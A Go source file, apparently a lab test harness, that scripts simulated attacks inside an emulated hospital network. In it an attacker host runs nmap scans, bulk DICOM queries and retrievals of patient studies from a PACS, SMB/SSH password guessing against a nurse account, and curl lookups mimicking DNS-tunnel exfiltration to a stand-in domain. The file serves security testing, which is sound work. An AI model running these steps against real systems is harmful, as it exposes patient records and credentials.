package lab

import (
	"context"
	"fmt"
	"strings"
)

// The attacker's host runs tools that anybody has; nothing is exploited.

// scanPorts looks for open ports on the servers and for machines in the ward's network.
func scanPorts(ctx context.Context, h *Hospital) error {
	attacker := h.Host("attacker")
	targets := []string{addrOf("pacs").String(), addrOf("ehr").String(), addrOf("files").String(), addrOf("dc").String()}
	args := append([]string{"-n", "-Pn", "-sS", "-T4", "--max-retries", "1", "-p", "1-1024,2575,4242,8042,11112"}, targets...)
	if _, err := attacker.Run(ctx, "nmap", args...); err != nil {
		return err
	}
	_, err := attacker.Run(ctx, "nmap", "-n", "-sn", "-T4", "--max-retries", "1", "10.20.3.0/26")
	return err
}

// sweepPACS asks the PACS for everything and moves what it finds, study by study.
func sweepPACS(ctx context.Context, h *Hospital) error {
	for i := range 12 {
		words := fmt.Sprintf("-S -aet HARVEST -aec PACS -k QueryRetrieveLevel=STUDY -k PatientName=%c* -k PatientID -k StudyInstanceUID", 'A'+2*i)
		if err := h.dicom(ctx, "attacker", "findscu", words); err != nil {
			return err
		}
	}
	if err := h.dicom(ctx, "attacker", "findscu", "-S -aet HARVEST -aec PACS -k QueryRetrieveLevel=STUDY -k PatientName=* -k PatientID -k StudyInstanceUID"); err != nil {
		return err
	}
	for i := range modalities {
		study := modalities[i].study(Patients[i])
		words := "-S -aet HARVEST -aec PACS -od . -k QueryRetrieveLevel=STUDY -k StudyInstanceUID=" + study
		if err := h.dicom(ctx, "attacker", "getscu", words); err != nil {
			return err
		}
	}
	return h.Host("attacker").Fails(ctx, "movescu", h.dicomArgs("-S -aet HARVEST -aec PACS -aem HARVEST --port 11112 -k QueryRetrieveLevel=STUDY -k StudyInstanceUID="+
		modalities[0].study(Patients[0]))...)
}

// guessPasswords tries a list of passwords on the file server, over SMB and over SSH.
func guessPasswords(ctx context.Context, h *Hospital) error {
	attacker := h.Host("attacker")
	for i := range guesses {
		who := account{nurse.user, fmt.Sprintf("Summer%d", 2000+i)}
		if err := attacker.Fails(ctx, "smbclient", smbArgs("ward", who, "ls")...); err != nil {
			return err
		}
		if err := attacker.Fails(ctx, "sshpass", sshArgs(who, "true")...); err != nil {
			return err
		}
	}
	return nil
}

// guesses is how many passwords the attacker tries per protocol.
const guesses = 12

// tunnelNames asks for names that carry data, as a DNS tunnel does.
func tunnelNames(ctx context.Context, h *Hospital) error {
	attacker := h.Host("attacker")
	for i := range 20 {
		label := strings.Repeat(fmt.Sprintf("%x", 0x9e3779b1*uint32(i+7)), 6)[:40]
		if _, err := attacker.Run(ctx, "curl", "-s", "-m", "3", "http://"+label+".t.example.net/"); err == nil {
			return fmt.Errorf("%s resolves, and must not", label)
		}
	}
	return nil
}
